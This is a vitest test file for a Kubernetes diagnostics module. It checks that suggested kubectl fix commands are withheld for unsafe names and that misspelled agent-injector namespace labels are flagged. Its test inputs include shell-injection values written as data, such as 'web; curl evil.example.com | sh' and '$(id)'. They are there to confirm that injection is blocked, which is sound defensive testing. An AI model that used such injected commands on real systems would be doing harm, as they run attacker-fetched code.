import { expect, it } from 'vitest';
import { mislabelledNamespaces, namespaceFinding, restartCommand } from '../../src/diagnostics/findings.ts';
import { namespace } from '../support/fixtures.ts';

// People paste these commands into a shell.

const names = ['web; curl evil.example.com | sh', '$(id)', '`id`', 'a b', "a'b", '-A', '../x', 'a\nb', ''];

it.each(names)('no command has the name %j', (name) => {
  expect(restartCommand('shop', { kind: 'Deployment', name })).toBeUndefined();
  expect(restartCommand(name, { kind: 'Deployment', name: 'web' })).toBeUndefined();
  const [finding] = namespaceFinding({ ...namespace({}, ''), name });
  expect(finding).toMatchObject({ code: 'namespace-not-enabled' });
  expect(finding?.fix).toBeUndefined();
});

it('has a command for a name that an object can have', () => {
  expect(restartCommand('shop', { kind: 'StatefulSet', name: 'db.v1' })).toBe(
    'kubectl -n shop rollout restart statefulset/db.v1',
  );
  expect(restartCommand('shop', { kind: 'Job', name: 'one' })).toBeUndefined();
  expect(namespaceFinding({ ...namespace({}, ''), name: 'shop' })[0]?.fix).toContain('kubectl label namespace shop ');
});

it.each([
  ['a misspelled value', { 'agent-injector.io/injection': 'enable' }, {}, /value "enable", which has no effect/],
  [
    'a misspelled prefix',
    { 'agent-injecter.io/injection': 'enabled' },
    {},
    /label agent-injecter\.io\/injection has no/,
  ],
  [
    'an annotation',
    {},
    { 'agent-injector.io/injection': 'enabled' },
    /is an annotation, and has an effect only as a label/,
  ],
])('finds a namespace with %s, and says what it saw', (_, labels, annotations, message) => {
  const found = mislabelledNamespaces([{ name: 'shop', labels, annotations }]);
  expect(found).toMatchObject([
    {
      namespace: 'shop',
      message: expect.stringMatching(message),
      fix: expect.stringContaining('kubectl label namespace shop agent-injector.io/injection=enabled'),
    },
  ]);
});

it('finds no namespace that is enabled, off on purpose, or knows nothing of agent-injector', () => {
  const label = (value: string) => ({ 'agent-injector.io/injection': value });
  const all = [label('enabled'), label('required'), label('disabled'), {}];
  expect(mislabelledNamespaces(all.map((labels) => ({ name: 'shop', labels, annotations: {} })))).toEqual([]);
});
